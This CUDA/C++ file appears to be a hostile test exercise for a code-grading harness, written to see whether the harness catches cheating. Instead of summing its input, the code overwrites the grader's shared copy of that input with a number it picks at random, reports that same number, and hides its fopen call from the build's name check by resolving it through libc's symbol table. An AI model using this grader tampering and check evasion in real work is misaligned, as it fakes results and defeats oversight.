// expect: gpu=wrong-result emu=wrong-result  -- Rewrites the grader's copy of the input (a shared mapping it can see in /proc/self/maps) so that the answer is one number it chose, then "computes" that number.  It reaches fopen through libc's symbol table (libc_function), never naming it, as a real attacker would: the build's name check (forbidden-call) does not see it, and the sandbox is what must hold.
// Exercise 07 (host entry points, see harness/CONTRACTS.md); graded by
// tests/kit/check-mutant.sh (line 1) and by tests/kit/batch-hostile.sh.  The grader
// must check against an input the graded process cannot write.
#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <sys/mman.h>
#include <cstdint>
#include <elf.h>

// A function of libc by its name, read from libc's dynamic symbol table in
// memory (the library that holds puts starts with an ELF header on a page
// boundary below it): the object names no refused call, so the build's
// name check passes it and only the sandbox stands in the way.
static void *libc_function(const char *want)
{
    uintptr_t base = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
    while (std::memcmp((const void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    const Elf64_Sym *syms = nullptr;
    const char *names = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            syms = (const Elf64_Sym *)at;
        if (dyn->d_tag == DT_STRTAB)
            names = (const char *)at;
    }
    for (const Elf64_Sym *s = syms + 1; syms && names && (const char *)s < names; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return nullptr;
}

// The calls below, each through its address in libc.
static FILE * call_fopen(const char *path, const char *mode)
{
    return ((FILE *(*)(const char *, const char *))libc_function("fopen"))(path, mode);
}

template <typename T>
__global__ void put(T *result, T value)
{
    *result = value;
}

// The writable shared mapping that starts with the input's first element: the
// harness's own copy of the input.
template <typename T>
static char *input_copy(T first, size_t *len)
{
    FILE *m = call_fopen("/proc/self/maps", "r");
    char line[512];
    char *best = nullptr;
    *len = 0;
    while (m && fgets(line, sizeof line, m)) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3)
            continue;
        if (perms[1] == 'w' && perms[3] == 's' && *(T *)lo == first && !best) {
            best = (char *)lo;
            *len = hi - lo;
        }
    }
    if (m)
        fclose(m);
    return best;
}

template <typename T>
__global__ void copy_one(const T *input, T *result)
{
    *result = *input;
}

template <typename T>
static void fake(const T *d_input, T *d_result, size_t n)
{
    if (n <= 1) {  // the copy below would be the whole input: the grader notices that
        copy_one<T><<<1, 1>>>(d_input, d_result);
        return;
    }
    size_t len = 0;
    T first = 0;
    cudaMemcpy(&first, d_input, sizeof(T), cudaMemcpyDeviceToHost);  // one element only
    char *shm = input_copy(first, &len);
    T mine = (T)(rand() % 1000 + 1);  // a fresh answer each call: no "replay"
    if (shm && len >= n * sizeof(T)) {
        T *in = (T *)shm;
        memset(in, 0, n * sizeof(T));
        in[0] = mine;
    }
    put<T><<<1, 1>>>(d_result, mine);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)block;
    srand((unsigned)n * 2654435761u);
    fake(d_input, d_result, n);
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    (void)block;
    fake(d_input, d_result, n);
}
